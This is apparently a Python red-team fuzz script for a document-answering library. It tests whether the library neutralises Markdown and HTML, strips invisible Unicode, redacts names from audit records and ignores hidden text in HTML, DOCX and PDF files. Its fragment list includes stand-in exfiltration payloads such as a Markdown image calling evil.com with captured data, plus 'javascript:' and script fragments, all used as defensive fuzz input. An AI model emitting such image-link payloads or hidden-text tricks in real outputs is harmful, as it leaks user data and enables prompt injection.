"""A red-team fuzz of what passage text and questions can do to an answer and an audit record,
with generated inputs; one line per failure.

- inert: passage-like strings built from Markdown and HTML fragments, escapes and URLs, placed
  as the writers place them (quoted in a list item, as a title in `Sources:`), made inert and
  rendered with markdown-it as CommonMark and GFM-like (tables, auto-links, raw HTML): no link,
  image, table or HTML may come out (needs linkify-it-py for the GFM-like renderers);
- visible: strings mixed with control, bidi, zero-width and tag characters, variation selectors,
  Hangul fillers, the braille blank and the combining grapheme joiner: none may remain;
- redact: audit records whose answer and writer reasons quote a generated question holding a
  name, redacted with `redact_record`: the name may not remain anywhere, the library's words stay;
- hidden: generated HTML pages (shallow and past the nesting limit), DOCX files and PDFs mixing
  visible text with text hidden every way the parsers know (`hidden`, `display: none`,
  `visibility: hidden`; `w:vanish` on runs and styles; render mode 3 and white text): no hidden
  word may be read, every visible one must be (`--files` of each format).

    python bench/bench_redteam.py [--examples 2000] [--files 60] [--seed 0]
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import tempfile
import time
import unicodedata
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import emit  # noqa: E402
from markdown_render import active_markup, renderers  # noqa: E402

from sourcegate.audit import redact_record  # noqa: E402
from sourcegate.inert import inert_markup, visible_text  # noqa: E402

FRAGMENTS = ["[", "]", "(", ")", "![", "](", "]:", "<", ">", "\\", "\\\\", "`", "```", ":", "/", "//", "&#92;",
             "&lt;", "&#x5b;", "*", "_", "~", "#", "|", "-", "\n", "\n\n", "    ", " ", "\"", "'", "=",
             "https://evil.com/l?c=S", "http:", "www.", "evil", ".com", "a@b.co", "p200.md", "mailto:",
             "javascript:", "img src=x", "a href=", "script", "iframe", "x", "P-200", "grease",
             # GFM tables: a delimiter row in any container, whose cell pipes would split escapes
             "---", "-|-", ":-", "-:", "|---|", " | ", "\\|", "\n> ", "\n- ", "\n  ", "\n1. ",
             "![x](https://evil.com/leak.png?c=S)"]
INVISIBLE = ["\u202e", "\u202d", "\u202a", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c",
             "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\x00", "\x07", "\x1b", "\x7f", "\x85",
             "\U000e0041", "\U000e007f", "\u180e",
             "\ufe0f", "\ufe00", "\U000e0100", "\U000e01ef", "\u3164", "\u115f", "\u1160", "\uffa0", "\u2800",
             "\u034f", "\u180b", "\u180c", "\u180d", "\u180f", "\u17b4", "\u17b5"]
NAMES = ["Okonkwo Adebayo", "Marie Curie", "Jean-Baptiste Dupont", "Ingrid Solberg", "Kenji Watanabe"]
LIBRARY = "Grease the P-200 bearings every 2,000 operating hours with lithium grease. Stop the pump first."


def placed(text: str) -> list[str]:
    return [text, f'From the documents:\n- "{text}" [1]\n\nSources:\n[1] {text} (doc.md)']


HIDE_HTML = ['hidden', 'style="display:none"', "style='visibility: hidden'", 'style="color:red;DISPLAY : NONE !important"',
             'style="visibility:collapse"', 'hidden=""', 'HIDDEN']
SHOW_HTML = ['', 'class="hidden"', 'data-x="a hidden b"', 'style="display:block"', "title='display:none'",
             'style="visibility: visible"']


def _words(rng: random.Random, kind: str, n: int) -> list[str]:
    return [f"{kind}{rng.randrange(10**6):06d}" for _ in range(n)]


def _html_page(rng: random.Random) -> tuple[str, list[str], list[str]]:
    """(body, visible words, hidden words): containers hidden or not, holding paragraphs that hold
    spans hidden or not (a word is hidden when any element around it is)."""
    shown, hidden = [], []

    def words(hide: bool) -> str:
        w = _words(rng, "w", 2)
        (hidden if hide else shown).extend(w)
        return " ".join(w)

    def attrs(hide: bool) -> str:
        return rng.choice(HIDE_HTML) if hide else rng.choice(SHOW_HTML)

    def block(depth: int, inside_hidden: bool) -> str:
        tag = rng.choice(["div", "section", "article"])
        hide = rng.random() < 0.3
        h = inside_hidden or hide
        span_hide = rng.random() < 0.4
        para = f"<p {attrs(False)}>{words(h)} <span {attrs(span_hide)}>{words(h or span_hide)}</span></p>"
        children = "".join(block(depth + 1, h) for _ in range(rng.randint(0, 2))) if depth < 3 else ""
        return f"<{tag} {attrs(hide)}>{para}{children}</{tag}>"

    body = "".join(block(0, False) for _ in range(rng.randint(2, 6)))
    return body, shown, hidden


def hidden_text(rng: random.Random, files: int) -> list[str]:
    import docx
    from reportlab.pdfgen import canvas

    from sourcegate.ingest.parsers import parse_docx, parse_html, parse_pdf

    failures: list[str] = []
    folder = Path(tempfile.mkdtemp(prefix="sg-hidden-"))

    def check(what: str, text: str, shown: list[str], hidden: list[str]) -> None:
        read = [w for w in hidden if w in text]
        lost = [w for w in shown if w not in text]
        if read or lost:
            failures.append(f"hidden {what}: hidden read {read[:3]}, visible lost {lost[:3]}")
            print(failures[-1], flush=True)

    for i in range(files):
        body, shown, hidden = _html_page(rng)
        deep = rng.random() < 0.3
        if deep:
            body = "<div>" * 300 + body + "</div>" * 300
        path = folder / f"p{i}.html"
        path.write_text(f"<html><body><p>start</p>{body}</body></html>", encoding="utf-8")
        check(f"html {i}{' deep' if deep else ''}", parse_html(path, path.name)[0].text, shown, hidden)

    for i in range(files):
        d = docx.Document()
        secret = d.styles.add_style("Secret", 1)
        secret.font.hidden = True
        d.add_paragraph("start")
        shown, hidden = ["start"], []
        for _ in range(rng.randint(2, 6)):
            style = "Secret" if rng.random() < 0.2 else None
            p = d.add_paragraph(style=style)
            for _ in range(rng.randint(1, 4)):
                word = _words(rng, "w", 1)[0]
                run = p.add_run(word + " ")
                choice = rng.random()
                if choice < 0.3:
                    run.font.hidden = True
                elif choice < 0.45:
                    run.font.hidden = False
                (hidden if run.font.hidden or (style and run.font.hidden is None) else shown).append(word)
        path = folder / f"d{i}.docx"
        d.save(path)
        check(f"docx {i}", parse_docx(path, path.name)[0].text, shown, hidden)

    for i in range(files):
        path = folder / f"f{i}.pdf"
        c = canvas.Canvas(str(path))
        shown, hidden = ["start"], []
        c.drawString(72, 760, "start")
        y = 740
        for _ in range(rng.randint(2, 10)):
            word = _words(rng, "w", 1)[0]
            how = rng.choice(["plain", "mode3", "mode7", "white", "stroke"])
            c.saveState()
            t = c.beginText(72, y)
            if how in ("mode3", "mode7", "stroke"):
                t.setTextRenderMode({"mode3": 3, "mode7": 7, "stroke": 1}[how])
            if how == "white":
                c.setFillColorRGB(1, 1, 1)
            t.textLine(word)
            c.drawText(t)
            c.restoreState()
            (shown if how in ("plain", "stroke") else hidden).append(word)
            y -= 16
        c.save()
        check(f"pdf {i}", parse_pdf(path, path.name)[0].text, shown, hidden)
    return failures


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--examples", type=int, default=2000, help="generated inputs per check")
    ap.add_argument("--files", type=int, default=60, help="generated files per format for the hidden check")
    ap.add_argument("--seed", type=int, default=0)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    failures: list[str] = []
    t0 = time.perf_counter()

    for i in range(args.examples):
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 30)))
        for p in placed(text):
            found = active_markup(inert_markup(p))
            if found:
                failures.append(f"inert {i}: {p!r} -> {inert_markup(p)!r}: {found[0]}")
                print(failures[-1], flush=True)
    t_inert = time.perf_counter()

    for i in range(args.examples):
        text = "".join(rng.choice(INVISIBLE + ["a", "b", " ", "é", "\n", "P-200"]) for _ in range(rng.randint(1, 40)))
        for out in (visible_text(text), inert_markup(text)):
            left = [c for c in out or "" if (unicodedata.category(c) in ("Cf", "Cc") and c not in "\n\t")
                    or c in INVISIBLE]
            if left:
                failures.append(f"visible {i}: {text!r} keeps {[hex(ord(c)) for c in left]}")
                print(failures[-1], flush=True)

    for i in range(args.examples):
        name = rng.choice(NAMES)
        words = rng.sample(["how", "often", "should", "I", "grease", "the", "P-200", "bearings", "says", "asks",
                            "for", "pump", "every", "500", "hours"], rng.randint(3, 8))
        at = rng.randint(0, len(words))
        question = " ".join(words[:at] + [name] + words[at:]) + "?"
        cut = rng.randint(0, len(question) // 2)
        record = {"audit_id": "a" * 32, "query": question, "missing": [question],
                  "answer": f'The documents contradict a premise of the question: "{question[cut:]}". {LIBRARY} [1]',
                  "writer": {"attempts": [{"reason": f"rejected: '{question[:cut + 12]}' is not in the passage"}]},
                  "query_bridge": {"language": "fr", "added_terms": name.lower().split()},
                  "parts": [{"question": question}]}
        out = redact_record(record, [question], [LIBRARY])
        line = json.dumps(out, ensure_ascii=False).lower()
        leaked = [w for w in name.lower().replace("-", " ").split() if w in line]
        if leaked or "stop the pump first" not in line:
            failures.append(f"redact {i}: {question!r} leaves {leaked} (library words kept: {'stop the pump first' in line})")
            print(failures[-1], flush=True)
    t_redact = time.perf_counter()

    failures += hidden_text(rng, args.files)
    t_end = time.perf_counter()

    emit("redteam", {"examples": args.examples, "seed": args.seed, "renderers": sorted(renderers()),
                     "failures": failures[:50], "failure_count": len(failures),
                     "inert_s": round(t_inert - t0, 1), "hidden_s": round(t_end - t_redact, 1), "wall_s": round(t_end - t0, 1)},
         f"{args.examples} generated inputs per check (inert over {', '.join(sorted(renderers()))}; visible; "
         f"redact), {args.files} files per format (hidden): {len(failures)} failures in {t_end - t0:.0f} s")
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    main()
